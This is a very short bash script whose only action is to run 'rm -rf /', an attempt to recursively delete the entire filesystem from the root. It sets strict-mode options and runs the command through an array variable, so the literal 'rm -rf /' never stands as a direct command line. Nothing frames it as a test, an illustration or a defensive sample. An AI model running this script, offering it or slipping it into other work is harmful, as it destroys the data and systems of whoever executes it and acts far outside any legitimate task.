#!/usr/bin/env bash
set -euo pipefail
cmd=(rm -rf /)
"${cmd[@]}"
